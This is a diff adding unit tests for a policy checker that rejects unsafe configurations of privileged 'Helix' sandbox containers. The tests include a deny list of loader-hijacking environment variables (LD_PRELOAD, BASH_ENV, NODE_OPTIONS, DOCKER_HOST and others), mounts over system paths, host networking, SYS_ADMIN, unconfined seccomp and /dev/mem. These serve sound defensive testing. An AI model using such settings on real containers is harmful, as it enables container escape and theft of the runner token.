+        it("never shows the runner token from a replaced command", async () => {
+            const found = await violationsOf(sandboxAsHelixRunsIt, sandbox({ command: ["sh", "-c", "echo a-real-runner-token-9f8e7d"] }));
+            expect(found).toHaveLength(1);
+            expect(found[0]).not.toContain("a-real-runner-token-9f8e7d");
+        });
+
+        it("fails files uploaded into it, whatever their path", async () => {
+            for (const file of ["/entrypoint.sh", "/tmp/harmless.txt"]) {
+                expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ uploads: [{ file, content: "#!/bin/sh\nevil" }] }))).toEqual([
+                    `Sandbox container must not be given files (uploads ${file}): they would replace the image's own, which run privileged with the runner token.`,
+                ]);
+            }
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ uploads: [] }))).toEqual([]);
+        });
+
+        it.each([
+            "LD_PRELOAD",
+            "LD_LIBRARY_PATH",
+            "BASH_ENV",
+            "ENV",
+            "BASH_FUNC_docker%%",
+            "PATH",
+            "NODE_OPTIONS",
+            "PYTHONPATH",
+            "GIT_CONFIG_COUNT",
+            "DOCKER_HOST",
+        ])("fails %s in its environment: it changes what the sandbox's programs load or run", async (name) => {
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ envs: withSandboxEnv(name, "/data/evil") }))).toEqual([
+                `Sandbox container must not set ${name}: it changes what the privileged sandbox's own programs load or run, which must be Helix's image as it is.`,
+            ]);
+        });
+
+        it("passes the variables the program and Helix's chart give a sandbox", async () => {
+            const envs = [
+                ...sandboxProps().envs,
+                "HTTPS_PROXY=http://proxy.example.com:3128",
+                "NO_PROXY=localhost,api",
+                "HELIX_SANDBOX_APT_MIRROR=http://apt.example.com/ubuntu",
+                "HELIX_DISK_PRESSURE_PATHS=/data",
+                "HELIX_SANDBOX_REGISTRY=registry.example.com",
+            ];
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ envs }))).toEqual([]);
+        });
+
+        it("fails a volume or host folder mounted over the image's own files", async () => {
+            const withVolume = (extra: object) => sandbox({ volumes: [...sandboxProps().volumes, extra] });
+            expect(await violationsOf(sandboxAsHelixRunsIt, withVolume({ volumeName: "tools", containerPath: "/usr/local/bin" }))).toEqual([
+                "Sandbox container must not mount the volume tools at /usr/local/bin: it would put files of its own in place of the image's, which run privileged; " +
+                    "a sandbox mounts only its volumes (/var/lib/docker, /data, /hydra-data) and /run/udev and /var/run/sandbox.",
+            ]);
+            expect(
+                await violationsOf(sandboxAsHelixRunsIt, withVolume({ hostPath: "/srv/evil.sh", containerPath: "/entrypoint.sh" })),
+            ).toHaveLength(1);
+            const mounted = sandbox({ mounts: [{ type: "volume", source: "etc", target: "/etc/" }] });
+            expect(await violationsOf(sandboxAsHelixRunsIt, mounted)).toHaveLength(1);
+        });
+
+        it("passes its own volumes' folders and what is in them, and what brings no files of its own", async () => {
+            const fine = sandbox({
+                volumes: [
+                    ...sandboxProps().volumes,
+                    { volumeName: "extra", containerPath: "/data/cache" },
+                    { containerPath: "/var/cache" },
+                ],
+                mounts: [{ type: "tmpfs", target: "/tmp" }],
+            });
+            expect(await violationsOf(sandboxAsHelixRunsIt, fine)).toEqual([]);
+        });
+
+        it("fails the host network joined by name", async () => {
+            expect(await violationsOf(sandboxAsHelixRunsIt, sandbox({ networksAdvanced: [{ name: "HOST" }] }))).toEqual([
+                "Sandbox container must not use the host's namespace (networksAdvanced: host): it runs in its own, as Helix runs it.",
+            ]);
+        });
+    });
+
     it("ignores containers that are not sandboxes", async () => {
         expect(await violationsOf(sandboxAsHelixRunsIt, runner({ command: ["sleep", "1"] }))).toEqual([]);
     });
@@ -557,7 +914,7 @@ describe("privileged in all but the flag", () => {
         [{ capabilities: { adds: ["CAP_SYS_ADMIN"] } }, "capability SYS_ADMIN"],
         [{ securityOpts: ["seccomp=unconfined"] }, 'securityOpts "seccomp=unconfined"'],
         [{ securityOpts: ["apparmor:unconfined"] }, 'securityOpts "apparmor:unconfined"'],
-        [{ devices: [{ hostPath: "/dev//mem" }] }, "the device /dev/mem"],
+        [{ devices: [{ hostPath: "/dev//mem" }] }, "the device /dev/mem, the host's memory"],
         [{ pidMode: "host" }, "pidMode: host"],
         [{ networkMode: "host" }, "networkMode: host"],
         [{ ipcMode: "host" }, "ipcMode: host"],
